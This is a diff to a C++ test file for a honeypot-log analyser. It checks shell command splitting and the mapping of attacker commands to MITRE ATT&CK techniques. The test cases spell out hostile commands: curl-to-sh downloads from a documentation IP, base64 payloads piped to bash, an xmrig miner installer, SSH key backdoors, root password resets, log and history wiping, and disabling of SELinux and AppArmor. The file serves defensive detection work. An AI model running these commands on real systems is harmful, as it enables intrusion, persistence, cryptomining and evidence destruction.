@@ -44,6 +44,16 @@ TEST(AttackSplit, SeparatorsQuotesWrappersAndSubstitutions) {
     EXPECT_EQ(programs_of("echo ${HOME}; (id)"), (V{"echo [${HOME}]", "id"}));
     EXPECT_EQ(programs_of("echo 'a;b|c' \"d`e\""), (V{"echo [a;b|c] [d`e]"}));
     EXPECT_EQ(programs_of("/bin/./uname -s\nw"), (V{"uname [-s]", "w"}));
+    EXPECT_EQ(programs_of("$SHELL -c \"cd /tmp; sh -c 'id'\""),
+              (V{"sh [-c] [cd /tmp; sh -c 'id']", "cd [/tmp]", "sh [-c] [id]", "id"}));
+    std::vector<cb::SimpleCommand> cmds;
+    cb::simple_commands("curl -s x | base64 -d | sh || sh; a|b", cmds);
+    ASSERT_EQ(cmds.size(), 6u);
+    EXPECT_EQ(cmds[0].piped_from, "");
+    EXPECT_EQ(cmds[1].piped_from, "curl");
+    EXPECT_EQ(cmds[2].piped_from, "base64");
+    EXPECT_EQ(cmds[3].piped_from, "");  // after ||
+    EXPECT_EQ(cmds[5].piped_from, "a");
     EXPECT_TRUE(programs_of("").empty());
     EXPECT_TRUE(programs_of(" ;; && || ").empty());
 }
@@ -86,6 +96,7 @@ const Case kCases[] = {
     {"w", {"T1033"}},
     {"cat /etc/passwd", {"T1087.001"}},
     {"ls /home", {"T1083", "T1087.001"}},
+    {"ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata", {"T1083"}},
     {"cat /etc/shadow", {"T1003.008"}},
     {"ps -ef | grep '[Mm]iner'", {"T1057"}},
     {"top", {"T1057"}},
@@ -106,14 +117,22 @@ const Case kCases[] = {
     {"echo aGVsbG8= | base64 -d", {"T1140"}},
     {"base64 file", {}},
     {"sh bins.sh", {"T1059.004"}},
+    {"curl http://198.51.100.7/x/3sh | sh", {"T1105", "T1059.004"}},
+    {"echo \"IyEv\" | base64 --decode | bash", {"T1140", "T1059.004"}},
+    {"nohup $SHELL -c \"curl http://198.51.100.7/l -o /tmp/y; chmod +x /tmp/y && /tmp/y\" &",
+     {"T1059.004", "T1105", "T1222.002"}},
     {"sh", {}},
     {"chmod +x bins.sh", {"T1222.002"}},
     {"chattr -ia .ssh", {"T1222.002"}},
     {"chmod", {}},
     {"echo \"ssh-rsa AAAA x\" >> .ssh/authorized_keys", {"T1098.004"}},
     {"cat .ssh/authorized_keys", {}},
+    {"chattr -ia ~/.ssh/authorized_keys", {"T1222.002"}},
+    {"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa A\" >> .ssh/authorized_keys", {"T1098.004"}},
     {"echo \"root:Xz81bq0Ye\" | chpasswd", {"T1098"}},
-    {"passwd", {}},
+    {"passwd", {"T1098"}},
+    {"echo -e \"nokia123\\n8uH8\\n8uH8\"|passwd|bash", {"T1098"}},
+    {"echo root:x|chpasswd|bash", {"T1098"}},
     {"useradd -m -p x system", {"T1136.001"}},
     {"(crontab -l; echo \"* * * * * /tmp/x\") | crontab -", {"T1053.003"}},
     {"crontab -l", {}},
@@ -126,6 +145,7 @@ const Case kCases[] = {
     {"history", {}},
     {"rm -rf /var/log/wtmp", {"T1070.002", "T1070.004"}},
     {"rm -rf .s", {"T1070.004"}},
+    {"cat /dev/null >/root/.bash_history; cat /dev/null > /var/log/wtmp", {"T1070.003", "T1070.002"}},
     {"setenforce 0", {"T1562.001"}},
     {"rm -rf /usr/local/aegis", {"T1562.001", "T1070.004"}},
     {"service apparmor stop", {"T1562.001", "T1489"}},
@@ -136,7 +156,8 @@ const Case kCases[] = {
     {"iptables -L", {}},
     {"reboot", {"T1529"}},
     {"./xmrig -o stratum+tcp://pool:3333 -u x", {"T1496.001"}},
-    {"curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/setup.sh | bash -s x", {"T1105", "T1059.004", "T1496.001"}},
+    {"curl -s -L http://download.c3pool.org/xmrig_setup/raw/master/setup.sh | bash -s x",
+     {"T1105", "T1059.004", "T1496.001"}},
     {"pkill -9 xmrig", {}},
     {"ps aux | grep -i XMRIG", {"T1057"}},
     {"echo -e \"\\x6F\\x6B\"", {}},
@@ -196,7 +217,8 @@ TEST(AttackRules, ErrorsNameTheLineAndTheProblem) {
     const std::string head = "attack_version = \"18.1\"\n[[technique]]\nid = \"T1082\"\nname = \"x\"\n";
     EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\n[[technique.command]]\nprogram = [\"uname\"]\n"),
               "my.toml:7:11: unknown key program");
-    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\n"), "my.toml:2:1: technique T1082 has no rule: it could never match");
+    EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\n"),
+              "my.toml:2:1: technique T1082 has no rule: it could never match");
     EXPECT_EQ(rules_error(head + "tactics = []\ndownloads = true\n"), "my.toml:2:1: technique T1082 has no tactics");
     EXPECT_EQ(rules_error(head + "tactics = [\"discovery\"]\ndownloads = \"yes\"\n"),
               "my.toml:6:13: downloads must be true or false");
@@ -207,8 +229,9 @@ TEST(AttackRules, ErrorsNameTheLineAndTheProblem) {
     EXPECT_EQ(rules_error("attack_version = \"18.1\"\n[[technique]]\nid = \"X1\"\nname = \"x\"\ntactics = [\"d\"]\n"
                           "tcpip = true\n"),
               "my.toml:2:1: technique id X1 is not of the form T1234 or T1234.001");
-    EXPECT_EQ(rules_error(head + "tactics = [\"d\"]\ntcpip = true\n" + head.substr(24) + "tactics = [\"d\"]\ntcpip = true\n"),
-              "my.toml:7:1: technique T1082 appears twice");
+    EXPECT_EQ(
+        rules_error(head + "tactics = [\"d\"]\ntcpip = true\n" + head.substr(24) + "tactics = [\"d\"]\ntcpip = true\n"),
+        "my.toml:7:1: technique T1082 appears twice");
     EXPECT_EQ(rules_error("[[technique]\n"), "my.toml:1:13: Error while parsing table header: expected ']', saw '\\n'");
     EXPECT_EQ(rules_error("attack_version = \"18.1\"\n"), "my.toml: no [[technique]]");
     EXPECT_EQ(rules_error("technique = 1\n"), "my.toml:1:1: missing attack_version");
@@ -247,11 +270,11 @@ file_write_paths = ["/srv/"]
         log += ev("s", "c1", "203.0.113.9", "cowrie.command.input", cat("2024-04-01T10:00:0", t++, ".000000Z"),
                   "\"input\":" + js(input));
     };
-    line("grep EVIL x");       // not_programs
-    line("tool a --dry b");    // not_args
-    line("tool a");            // min_args
-    line("run EvIl");          // ignore_case
-    line("tool a b");          // T2000
+    line("grep EVIL x");     // not_programs
+    line("tool a --dry b");  // not_args
+    line("tool a");          // min_args
+    line("run EvIl");        // ignore_case
+    line("tool a b");        // T2000
     log += ev("s", "c1", "203.0.113.9", "cowrie.session.file_download", "2024-04-01T10:00:08.000000Z",
               "\"destfile\":\"/srv/www/x.php\",\"outfile\":\"o\",\"shasum\":\"ee\"");
     cb::StringPool pool;
